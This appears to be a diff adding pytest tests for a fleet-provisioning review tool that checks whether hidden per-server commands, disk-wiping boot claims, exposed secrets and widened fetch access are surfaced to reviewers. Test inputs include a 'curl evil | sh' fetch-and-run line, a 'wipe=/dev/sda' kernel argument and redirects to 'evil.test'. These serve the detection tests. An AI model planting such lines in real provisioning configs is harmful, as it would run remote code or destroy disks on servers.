@@ -1,0 +1,548 @@
+"""Authors who hide something from reviewers and guards: behind another server, behind a claim, behind no server."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+from base64 import b64encode
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any, Final, NamedTuple
+
+import pytest
+
+from gitboot.endpoint.age_encryption import encrypt, make_key
+from gitboot.model.fleet import FleetSpec, OneTimeBoots, Provisioning, Serving
+from gitboot.review.document_changes import access_changes
+from gitboot.review.guards import Guard, Limits, judge
+from gitboot.review.reinstalls import Why
+from gitboot.review.review import Review, ReviewOutcome
+from gitboot.review.risks import Risk
+from tests.helpers.cases import for_each
+from tests.helpers.fleets import fleet, image, mac_of, maintenance, policy, profile, server
+from tests.helpers.repositories import Work
+from tests.helpers.reviewed_changes import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
+
+EVIL: Final = "curl evil | sh"
+CLAIM: Final = "writesDisk: false"
+WIPE: Final = "kernelArguments: [wipe=/dev/sda]"
+
+
+# The stranger: commits in a real repository, the command in a process of its own
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A repository with the fleet on its main branch."""
+    path = tmp_path_factory.mktemp("template") / "fleet"
+    Work(path).commit(FLEET)
+    return path
+
+
+@pytest.fixture
+def work(template: Path, tmp_path: Path) -> Work:
+    shutil.copytree(template, tmp_path / "fleet")
+    found = Work(tmp_path / "fleet")
+    found.git("checkout", "--quiet", "-b", "topic")
+    return found
+
+
+class Diffed(NamedTuple):
+    """What the command prints and how it ends."""
+
+    exit_code: int
+    text: str
+    markdown: str
+    facts: dict[str, Any]
+
+
+def diffed(work: Work, range: str = "main..topic") -> Diffed:
+    """Run `gitboot diff` as CI does, in all formats at once."""
+    formats = ("text", "markdown", "json")
+    files = {each: work.path.parent / f"review.{each}" for each in formats}
+    outputs = [part for each, path in files.items() for part in ("-o", f"{each}={path}")]
+    done = subprocess.run(
+        [sys.executable, "-m", "gitboot", "diff", range, str(work.path), *outputs], capture_output=True, check=False
+    )
+    assert done.returncode in (0, 4), done.stderr
+    text, markdown, found = (path.read_text() for path in files.values())
+    return Diffed(done.returncode, text, markdown, json.loads(found))
+
+
+def test_finding_s10_a_line_for_one_server_is_shown_whichever_server_a_group_begins_with(work: Work) -> None:
+    hidden = '{% if server.name == "fra1-web07" %}  - ' + EVIL + "\n{% endif %}"
+    work.commit({"userdata/web.j2": f"{USER_DATA}runcmd:\n  - true\n{hidden}"})
+    found = diffed(work)
+    groups = [group for group in found.facts["groups"] if any(EVIL in str(each) for each in group["rendered"])]
+    assert [group["servers"] for group in groups] == [["fra1-web07"]]
+    assert groups[0]["outlier"] == {"than": "ams2-web01", "lines": [f"+  - {EVIL}"], "missing": []}
+    for text in (found.text, found.markdown):
+        assert f"only here: +  - {EVIL}" in text
+        assert "fra1-web07" in text
+
+
+def test_finding_s11_an_image_that_claims_to_write_no_disk_is_an_installation_until_acknowledged(work: Work) -> None:
+    work.commit(
+        {
+            "images/rescue.yaml": image("rescue-1", f"{CLAIM}, {WIPE}"),
+            "profiles/rescue.yaml": profile("rescue", "rescue-1"),
+            "m.yaml": maintenance("m", spec="power: Restart", select="{servers: [fra1-web07]}", boots="rescue"),
+        }
+    )
+    found = diffed(work)
+    assert found.exit_code == 4
+    assert "maxReinstalls" in {trip["guard"] for trip in found.facts["trips"]}
+    (claim,) = found.facts["claims"]
+    assert (claim["image"], claim["path"]) == ("rescue-1", "images/rescue.yaml")
+    author = work.git("log", "-1", "--format=%an <%ae>").strip()
+    assert claim["author"].startswith(f"{author} in ")
+    for text in (found.text, found.markdown):
+        assert "images/rescue.yaml:4" in " ".join(text.split())
+        assert author in " ".join(text.split())
+    lines = "\n".join({trip["acknowledgement"] for trip in found.facts["trips"]})
+    work.git("commit", "--quiet", "--amend", "-m", f"Rescue\n\n{lines}")
+    assert diffed(work).exit_code == 0
+    work.git("branch", "accepted")
+    work.commit({"n.yaml": maintenance("n", select="{servers: [fra1-web08]}", boots="rescue")})
+    assert diffed(work, "accepted..topic").exit_code == 0
+
+
+def test_finding_s17_who_may_fetch_is_no_change_of_0_servers(work: Work) -> None:
+    work.git("checkout", "--quiet", "main")
+    work.commit({"fleet.yaml": fleet("baseURL: 'http://boot.test', provisioning: {clients: ['10.0.0.0/8']}")})
+    work.git("checkout", "--quiet", "-B", "topic")
+    work.commit({"fleet.yaml": FLEET["fleet.yaml"]})
+    found = diffed(work)
+    assert found.exit_code == 4
+    assert [trip["guard"] for trip in found.facts["trips"]] == ["maxAccessChanges"]
+    (access,) = found.facts["access"]
+    assert access == {"field": "spec.provisioning.clients", "old": ["10.0.0.0/8"], "new": [], "widens": True}
+    for text in (found.text, found.markdown):
+        shown = " ".join(text.split())
+        assert "who may fetch changes for every machine · 0 servers changed" in shown
+        assert "spec.provisioning.clients: 10.0.0.0/8 → every client: more clients can fetch" in shown
+
+
+# Groups
+
+
+def alike(new: Files, old: Files = FLEET) -> list[list[str]]:
+    return [list(group.names) for group in reviewed(new, old).groups]
+
+
+def web(template: str) -> Files:
+    return {"userdata/web.j2": USER_DATA + template}
+
+
+def having(review: Review, text: str) -> set[str]:
+    """The servers in whose groups a text is shown."""
+    return {
+        name
+        for group in review.groups
+        for name in group.names
+        if any(text in line for each in group.rendered or () for line in each.lines)
+    }
+
+
+def test_servers_are_one_group_if_they_differ_by_their_own_values() -> None:
+    own = "  # {{ server.name }} {{ server.uuid }} {{ server.interfaces[0].mac }} {{ urls.provisioned }}\n"
+    (group,) = reviewed(web(own)).groups
+    assert len(group.servers) == 18
+    assert set(group.own) == {"name", "UUID", "MAC", "token"}
+
+
+def test_servers_of_two_sites_are_one_group_if_they_differ_by_its_base_url() -> None:
+    sites = ", ".join(
+        f"{{name: {name}, select: {{matchLabels: {{site: {name}}}}}, baseURL: 'http://{name}.test'}}"
+        for name in ("fra1", "ams2")
+    )
+    old = {**FLEET, "fleet.yaml": fleet(f"baseURL: 'http://boot.test', sites: [{sites}]")}
+    new = {"profiles/web.yaml": FLEET["profiles/web.yaml"].replace("[quiet]", "[quiet, more]")}  # type: ignore[union-attr]
+    (group,) = reviewed(new, old).groups
+    assert (len(group.servers), group.own) == (18, ("base URL",))
+    moved = {"fleet.yaml": fleet(f"baseURL: 'http://boot.test', sites: [{sites.replace('fra1.test', 'evil.test')}]")}
+    assert sorted({name[:4] for name in having(reviewed({**new, **moved}, old), "evil.test")}) == ["fra1"]
+
+
+@for_each(
+    ("what", "condition"),
+    [
+        ("the name", 'server.name == "fra1-web07"'),
+        ("the address", f'server.interfaces[0].mac == "{mac_of("fra1-web07")}"'),
+        ("the part of a name", '"web07" in server.name'),
+    ],
+)
+@for_each(
+    "line",
+    [
+        EVIL,
+        "password: hunter2",  # which no format shows
+        "a" * 500 + EVIL,
+        "\N{MATHEMATICAL LEFT ANGLE BRACKET}name\N{MATHEMATICAL RIGHT ANGLE BRACKET}",  # as own values are shown
+    ],
+)
+def test_a_server_with_a_line_of_its_own_is_in_no_other_group(what: str, condition: str, line: str) -> None:
+    other = "# {{ server.name }}"
+    found = alike(web(f"{{% if {condition} %}}{line}\n{{% else %}}{other}\n{{% endif %}}"))
+    assert ["fra1-web07"] in found
+    assert sorted(map(len, found)) == [1, 17]
+
+
+def test_a_line_at_another_place_is_another_difference() -> None:
+    blank = "# \n" * 9
+    lines = "{% if server.name == 'fra1-web07' %}# exit\n{% endif %}"
+    others = "{% if server.name != 'fra1-web07' %}# exit\n{% endif %}"
+    old = {**FLEET, **web(f"{blank}# sanboot\n{blank}")}
+    assert ["fra1-web07"] in alike(
+        web(f"{blank[:12]}{lines}{blank[12:]}# sanboot\n{blank[:12]}{others}{blank[12:]}"), old
+    )
+
+
+def test_what_is_hidden_as_a_secret_is_said_to_differ() -> None:
+    old = {**FLEET, **web("password: hunter2\n")}
+    review = reviewed(web("password: {% if server.name == 'fra1-web07' %}hunter4{% else %}hunter3{% endif %}\n"), old)
+    assert ["fra1-web07"] in [list(group.names) for group in review.groups]
+    assert having(review, "HIDDEN: looks like a secret, and differs") == {n[8:-5] for n in FLEET if "-web" in n}
+    assert not having(review, "hunter")
+
+
+# Files in data URLs, as Ignition has them
+
+NODE: Final = """\
+{%- set node -%}
+{"storage": {"files": [
+  {"path": "/etc/hostname", "contents": {"source": "{{ server.name | data_url }}"}},
+  {"path": "/etc/node", "contents": {"source": "{{ text | data_url }}"}}
+]}}
+{%- endset -%}
+{"ignition": {"version": "3.4.0", "config": {"replace": {"source": "{{ node | data_url }}"}}}}
+"""
+IGNITION: Final[Files] = {
+    **FLEET,
+    "images/1.yaml": image("flatcar-1", "userData: Ignition/3.4"),
+    "profiles/web.yaml": profile("web", "flatcar-1", "userData: {format: Ignition/3.4, template: userdata/web.j2}"),
+    "userdata/web.j2": "{% set text = 'true' %}" + NODE,
+}
+
+
+def test_files_in_data_urls_are_compared_and_shown_decoded() -> None:
+    own = "{% set text = 'exec ' ~ server.name %}"
+    (group,) = reviewed({"userdata/web.j2": own + NODE}, IGNITION).groups
+    assert (len(group.servers), group.own) == (18, ("name",))
+    hidden = "{% set text = '" + EVIL + "' if server.name == 'fra1-web07' else 'false' %}"
+    review = reviewed({"userdata/web.j2": hidden + NODE}, IGNITION)
+    assert having(review, EVIL) == {"fra1-web07"}
+
+
+@for_each(
+    ("kind", "secret"),
+    [
+        ("a password of kickstart", "rootpw --plaintext hunter22"),
+        ("a password of an option", "mysqladmin -u root --password=hunter22 ping"),
+        ("a plain password of cloud-init", "chpasswd:\n  users:\n  - {name: root, password: hunter22, type: text}"),
+        ("a password in a URL", "first\ncurl -fsSL https://ci:hunter22@artifacts.test/agent.tar.gz\nlast"),
+    ],
+)
+@for_each("wrapped", ["text", "url", "text in url", "url in url"])
+def test_a_secret_in_json_and_in_its_data_urls_is_not_shown(kind: str, secret: str, wrapped: str) -> None:
+    old, new = (
+        {"userdata/web.j2": in_json(text, wrapped)} for text in (secret.replace("hunter22", "hunter33"), secret)
+    )
+    review = reviewed(new, {**IGNITION, **old})
+    assert len(having(review, "HIDDEN")) == 18
+    assert not having(review, "hunter")
+
+
+def in_json(text: str, wrapped: str) -> str:
+    for step in reversed(wrapped.split(" in ")):
+        text = f"data:;base64,{b64encode(text.encode()).decode()}" if step == "url" else text
+        text = json.dumps({"ignition": {"version": "3.4.0"}, "contents": text})
+    return text
+
+
+def test_a_key_that_stands_twice_is_shown() -> None:
+    twice = (
+        '{"ignition": {"version": "3.4.0"}, {% if server.name == "fra1-web07" %}"a": "' + EVIL + '",{% endif %} "a": 1}'
+    )
+    assert having(reviewed({"userdata/web.j2": twice}, IGNITION), EVIL) == {"fra1-web07"}
+
+
+def test_each_machine_that_takes_the_place_of_another_is_shown() -> None:
+    names = ("fra1-web01", "fra1-web02", "fra1-web03")
+    spec = "provision: 1"
+    new = {
+        f"servers/{name}.yaml": server(name, "site: fra1, role: web", spec).replace(mac_of(name), mac_of(f"new {name}"))
+        for name in names
+    }
+    assert alike(new) == [[name] for name in names]
+
+
+def test_a_new_address_is_a_difference_of_its_own() -> None:
+    """A value that the commit changes is no server's own: the author chose it."""
+    names = ("fra1-web01", "fra1-web02", "fra1-web03")
+
+    def addressed(network: int) -> Files:
+        return {
+            f"servers/{name}.yaml": server(name, "site: fra1, role: web", "provision: 1").replace(
+                f'mac: "{mac_of(name)}"', f'mac: "{mac_of(name)}", addresses: [10.{network}.0.{number}/8]'
+            )
+            for number, name in enumerate(names, 1)
+        }
+
+    template = web("# {{ server.interfaces[0].addresses | join(' ') }}\n")
+    old = {**FLEET, **template, **addressed(1)}
+    assert alike(addressed(2), old) == [[name] for name in names]
+    assert [*names] in alike(web("# now {{ server.interfaces[0].addresses | join(' ') }}\n"), old)
+
+
+# Claims
+
+
+RESCUE: Final[Files] = {"images/rescue.yaml": image("rescue-1", CLAIM)}
+OFFERED: Final[Files] = {
+    **FLEET,
+    **RESCUE,
+    "profiles/rescue.yaml": profile("rescue", "rescue-1", "kernelArguments: [rescue]"),
+    "live.yaml": policy("live", "{servers: [fra1-db01]}", "priority: 9", boots="rescue"),
+}
+
+LIVE: Final = policy("web", "{matchLabels: {role: web}}", boots="repair")
+
+
+def window(boots: str, select: str = "{servers: [fra1-web07]}") -> Files:
+    return {"m.yaml": maintenance("m", select=select, boots=boots)}
+
+
+@for_each(
+    ("what", "old", "new", "expected"),
+    [
+        ("an image that nothing boots", FLEET, RESCUE, set()),
+        (
+            "an image that one server boots",
+            FLEET,
+            {**RESCUE, "profiles/repair.yaml": profile("repair", "rescue-1"), **window("repair")},
+            {Why.CLAIM},
+        ),
+        ("an image that was known", FLEET, window("repair"), set()),
+        (
+            "its console",
+            FLEET,
+            {
+                "profiles/repair.yaml": profile("repair", "memtest-7", "kernelArguments: [console=ttyS0]"),
+                **window("repair"),
+            },
+            set(),
+        ),
+        (
+            "an argument",
+            FLEET,
+            {"profiles/repair.yaml": profile("repair", "memtest-7", WIPE), **window("repair")},
+            {Why.CLAIM_OF_BOOT},
+        ),
+        (
+            "where a boot with more than its image prints",
+            {**FLEET, "profiles/repair.yaml": profile("repair", "memtest-7", WIPE), "policies/web.yaml": LIVE},
+            {"profiles/repair.yaml": profile("repair", "memtest-7", WIPE.replace("]", ", quiet]"))},
+            set(),
+        ),
+        (
+            "an argument of the server",
+            {**FLEET, "policies/web.yaml": LIVE},
+            {"servers/fra1-web07.yaml": server("fra1-web07", "site: fra1, role: web", f"provision: 1, {WIPE}")},
+            {Why.CLAIM_OF_BOOT},
+        ),
+        ("an argument that was offered to another", OFFERED, window("rescue"), set()),
+        (
+            "a script",
+            FLEET,
+            {
+                "own.ipxe": "#!ipxe\n",
+                "profiles/repair.yaml": profile("repair", "memtest-7", "templates: {ipxe: own.ipxe}"),
+                **window("repair"),
+            },
+            {Why.CLAIM_OF_BOOT},
+        ),
+        (
+            "another host",
+            {**FLEET, **window("repair")},
+            {"fleet.yaml": fleet("baseURL: 'http://evil.test'")},
+            {Why.CLAIM_OF_BOOT},
+        ),
+        (
+            "another name of the image",
+            FLEET,
+            {
+                "images/memtest.yaml": None,
+                "images/again.yaml": image("again", CLAIM).replace("again/", "memtest-7/"),
+                "profiles/repair.yaml": profile("repair", "again"),
+                **window("repair"),
+            },
+            set(),
+        ),
+        (
+            "a claim that comes",
+            FLEET,
+            {"images/1.yaml": image("flatcar-1", f"userData: CloudInit, {CLAIM}")},
+            {Why.CLAIM},
+        ),
+        (
+            "a boot that is never offered",
+            FLEET,
+            {"policies/web.yaml": policy("web", "{matchLabels: {role: web}}", WIPE, often="Never", boots="repair")},
+            set(),
+        ),
+    ],
+)
+def test_a_boot_that_claims_to_write_no_disk_counts_by(what: str, old: Files, new: Files, expected: set[Why]) -> None:
+    changes = {change.name: change for change in compared(new, old).servers}
+    asked = changes["fra1-web07"].reinstalls if "fra1-web07" in changes else ()
+    assert {each.why for each in asked} == expected
+
+
+@for_each(
+    ("what", "old", "new", "held"),
+    [
+        ("an image that comes", FLEET, RESCUE, True),
+        (
+            "an image that comes with more labels",
+            {**FLEET, **RESCUE},
+            {"images/rescue.yaml": image("rescue-1", CLAIM).replace("labels: {", "labels: {a: b")},
+            False,
+        ),
+        (
+            "an image that is edited",
+            {**FLEET, **RESCUE},
+            {"images/rescue.yaml": image("rescue-1", f"{CLAIM}, {WIPE}")},
+            True,
+        ),
+        ("an image that goes", {**FLEET, **RESCUE}, {"images/rescue.yaml": None}, False),
+        ("an image that says what it does", FLEET, {"images/rescue.yaml": image("rescue-1")}, False),
+        ("an image that comes with the first servers", {**FLEET, **dict.fromkeys(SERVERS)}, {**FLEET, **RESCUE}, False),
+    ],
+)
+def test_a_claim_is_held_before_a_server_boots_it(what: str, old: Files, new: Files, held: bool) -> None:
+    extent = compared(new, old).extent
+    assert (Guard.MAX_REINSTALLS in judge(extent, Limits()).holding) is held
+    assert not judge(extent, Limits(max_reinstalls=22)).held
+    assert (Guard.MAX_REINSTALLS in judge(extent, Limits(max_reinstalls=21)).holding) is held
+
+
+def test_an_acknowledgement_of_a_claim_counts_for_its_content() -> None:
+    one, other = (compared({"images/rescue.yaml": image("rescue-1", spec)}) for spec in (CLAIM, f"{CLAIM}, {WIPE}"))
+    assert one.servers == other.servers == ()
+    assert one.digest != other.digest
+
+
+def test_a_server_that_comes_back_with_a_claim_is_named() -> None:
+    path = "servers/fra1-web07.yaml"
+    gone = {name: text for name, text in FLEET.items() if name != path}
+    wiping = {path: FLEET[path], "profiles/repair.yaml": profile("repair", "memtest-7", WIPE), **window("repair")}
+    assert compared(wiping, gone).unknown_claims == ("fra1-web07",)
+    assert compared({path: FLEET[path]}, gone).unknown_claims == ()
+
+
+# Who may fetch
+
+
+def spec(
+    clients: str = "",
+    monitors: str = "",
+    *,
+    restrict: bool = False,
+    boots: OneTimeBoots = OneTimeBoots.ENDPOINT_ONLY,
+) -> FleetSpec:
+    given: Mapping[str, Any] = {"clients": tuple(clients.split()), "monitors": tuple(monitors.split())}
+    serving = Serving(restrict=restrict, one_time_boots=boots)
+    fields: Mapping[str, Any] = {"base_url": "http://boot.test", "serving": serving}
+    return FleetSpec(provisioning=Provisioning(**given), **fields)
+
+
+@for_each(
+    ("what", "old", "new", "expected"),
+    [
+        ("nothing", spec("10.0.0.0/8"), spec("10.0.0.0/8"), []),
+        ("clients removed", spec("10.0.0.0/8"), spec(), [True]),
+        ("clients added", spec(), spec("10.0.0.0/8"), [False]),
+        ("a wider network", spec("10.0.0.0/24"), spec("10.0.0.0/8"), [True]),
+        ("a narrower network", spec("10.0.0.0/8"), spec("10.0.0.0/24"), [False]),
+        ("two halves", spec("10.0.0.0/25 10.0.0.128/25"), spec("10.0.0.0/24"), [False]),
+        ("another family", spec("10.0.0.0/8"), spec("10.0.0.0/8 fd00::/8"), [True]),
+        ("a monitor fewer", spec(monitors="10.0.0.1/32"), spec(), [True]),
+        ("a monitor more", spec(), spec(monitors="10.0.0.1/32"), [False]),
+        ("restrict taken away", spec(restrict=True), spec(), [True]),
+        ("both", spec("10.0.0.0/8", "10.0.0.1/32"), spec(), [True, True]),
+        ("one-time boots in copies", spec(), spec(boots=OneTimeBoots.COPIES), [True]),
+        ("one-time boots at the endpoint alone", spec(boots=OneTimeBoots.COPIES), spec(), [False]),
+    ],
+)
+def test_finding_m2_more_clients_can_fetch_by(what: str, old: FleetSpec, new: FleetSpec, expected: list[bool]) -> None:
+    assert [each.widens for each in access_changes(old, new)] == expected
+
+
+def test_finding_m2_a_review_shows_the_risk_of_one_time_boots_in_copies() -> None:
+    changed = {"fleet.yaml": fleet("baseURL: 'http://boot.test', serving: {oneTimeBoots: Copies}")}
+    found = reviewed(changed, {**FLEET, "fleet.yaml": fleet(copies=False)})
+    (danger,) = [each for each in found.dangers() if each.risk is Risk.ACCESS]
+    assert danger.names == ("every machine",)
+    (reason,) = danger.reasons
+    assert reason.startswith(
+        "spec.serving.oneTimeBoots: EndpointOnly → Copies: more clients can fetch, again and again:"
+    )
+    assert reason.endswith(
+        "a loader that sends neither its name (User-Agent) nor uuid and serial leaves no evidence in that log"
+    )
+    assert Guard.MAX_ACCESS_CHANGES in [guard for guard, _ in found.acknowledging()]
+
+
+READERS: Final = "userData: {format: CloudInit, template: userdata/web.j2, secrets: {join: join.age}}"
+READING: Final[Files] = {
+    **FLEET,
+    "profiles/web.yaml": profile("web", "stream: stable", f"kernelArguments: [quiet], {READERS}"),
+    "join.age": "first",
+}
+
+
+@pytest.fixture(scope="module")
+def sealed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
+    """Files that are encrypted by age."""
+    public = make_key(tmp_path_factory.mktemp("keys") / "keys")
+    return {name: encrypt(name.encode(), [public]).decode() for name in ("first", "second")}
+
+
+@for_each(
+    ("what", "old", "new", "servers"),
+    [
+        ("a secret that comes", FLEET, READING, 18),
+        ("a secret that goes", READING, {"profiles/web.yaml": FLEET["profiles/web.yaml"]}, 18),
+        ("another file", READING, {"join.age": "second"}, 18),
+        (
+            "a file of its own",
+            READING,
+            {
+                "servers/fra1-web07.yaml": server(
+                    "fra1-web07", "site: fra1, role: web", "provision: 1, secrets: {join: own.age}"
+                ),
+                "own.age": "second",
+            },
+            1,
+        ),
+        ("a file that no server has", READING, {"own.age": "second"}, 0),
+        ("other user data", READING, {"userdata/web.j2": f"{USER_DATA}# more\n"}, 0),
+        (
+            "another host that sees the tokens of secrets",
+            {**FLEET, "fleet.yaml": fleet(copies=False)},
+            {"fleet.yaml": fleet("baseURL: 'http://boot.test', endpoint: 'http://evil.test'")},
+            22,
+        ),
+    ],
+)
+def test_a_server_that_may_fetch_another_secret_or_elsewhere_is_of_the_class_who_may_fetch(
+    sealed: Mapping[str, str], what: str, old: Files, new: Files, servers: int
+) -> None:
+    before, after = ({path: sealed.get(text or "", text) for path, text in files.items()} for files in (old, new))
+    review = reviewed(after, before)
+    assert review.outcome in (ReviewOutcome.FINE, ReviewOutcome.HELD, ReviewOutcome.UNCHANGED)
+    found = [danger for danger in review.dangers() if danger.risk is Risk.ACCESS]
+    assert [len(danger.names) for danger in found] == ([servers] if servers else [])
